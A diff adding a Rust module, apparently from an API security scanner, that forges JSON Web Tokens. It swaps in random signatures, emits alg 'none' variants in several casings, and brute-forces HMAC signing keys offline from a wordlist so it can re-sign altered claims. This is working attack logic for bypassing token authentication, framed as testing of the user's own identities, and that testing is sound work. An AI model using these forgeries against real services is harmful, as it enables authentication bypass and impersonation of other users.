@@ -1,0 +1,92 @@
+//! Forged tokens, encoded by hand: a library rightly refuses to make them. Forged only for identities that the user
+//! owns, from their own tokens.
+
+use base64::Engine as _;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use jsonwebtoken::crypto;
+use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey};
+use rand::Rng as _;
+use serde_json::{Map, Value, json};
+
+use crate::detect::jwt::Jwt;
+use crate::model::Secret;
+
+/// A key that was guessed offline.
+#[derive(Debug, Clone)]
+pub struct SigningKey {
+    /// The key itself.
+    pub key: Secret,
+    /// Which algorithm it signs.
+    pub algorithm: Algorithm,
+}
+
+/// The token with a signature of random bytes of the same length.
+pub(crate) fn random_signature(jwt: &Jwt) -> Secret {
+    let mut signature = vec![0_u8; jwt.signature.len().max(32)];
+    rand::rng().fill_bytes(&mut signature);
+    Secret::new(format!("{}.{}", jwt.signing_input(), URL_SAFE_NO_PAD.encode(signature)))
+}
+
+/// The token unsigned, `alg` in the spellings that naive verifiers let through; the trailing dot stays (RFC 7519 §6.1).
+pub(crate) fn unsigned(jwt: &Jwt) -> Vec<(&'static str, Secret)> {
+    ["none", "None", "NONE", "nOnE"]
+        .into_iter()
+        .map(|spelling| {
+            let mut header = jwt.header.clone();
+            if let Some(fields) = header.as_object_mut() {
+                fields.insert("alg".to_owned(), json!(spelling));
+            }
+            (spelling, Secret::new(format!("{}.{}.", part(&header), part(&jwt.payload))))
+        })
+        .collect()
+}
+
+/// The claims signed with a guessed key.
+pub(crate) fn signed(jwt: &Jwt, key: &SigningKey, changes: &[(&str, Value)]) -> Option<Secret> {
+    let mut payload: Map<String, Value> = jwt.payload.as_object()?.clone();
+    for (name, value) in changes {
+        payload.insert((*name).to_owned(), value.clone());
+    }
+    let input = format!("{}.{}", part(&jwt.header), part(&Value::Object(payload)));
+    let signing = EncodingKey::from_secret(key.key.expose().as_bytes());
+    let signature = crypto::sign(input.as_bytes(), &signing, key.algorithm).ok()?;
+    Some(Secret::new(format!("{input}.{signature}")))
+}
+
+fn part(value: &Value) -> String {
+    URL_SAFE_NO_PAD.encode(value.to_string())
+}
+
+/// Common keys, one a line: framework defaults, documentation samples, everyday words.
+const WORDS: &str = include_str!("words.txt");
+
+/// Guesses the HMAC key of a token offline, on all cores; `more` are words of this API (its title, host and the like).
+/// Sends nothing; a match is proof by itself.
+pub(crate) fn guess(jwt: &Jwt, more: &[String]) -> Option<SigningKey> {
+    let algorithm = match jwt.algorithm()? {
+        "HS256" => Algorithm::HS256,
+        "HS384" => Algorithm::HS384,
+        "HS512" => Algorithm::HS512,
+        _ => return None,
+    };
+    let signature = URL_SAFE_NO_PAD.encode(&jwt.signature);
+    let candidates: Vec<&str> = WORDS.lines().chain(more.iter().map(String::as_str)).chain([""]).collect();
+    let n_threads = std::thread::available_parallelism().map_or(1, std::num::NonZero::get).min(8);
+    let input = jwt.signing_input().as_bytes();
+    let found = std::thread::scope(|scope| {
+        let share = candidates.len().div_ceil(n_threads).max(1);
+        let workers: Vec<_> = candidates
+            .chunks(share)
+            .map(|words| {
+                let signature = &signature;
+                scope.spawn(move || words.iter().find(|word| fits(signature, input, word, algorithm)).copied())
+            })
+            .collect();
+        workers.into_iter().filter_map(|worker| worker.join().ok().flatten()).next()
+    });
+    found.map(|word| SigningKey { key: Secret::new(word), algorithm })
+}
+
+fn fits(signature: &str, input: &[u8], word: &str, algorithm: Algorithm) -> bool {
+    crypto::verify(signature, input, &DecodingKey::from_secret(word.as_bytes()), algorithm).unwrap_or(false)
+}
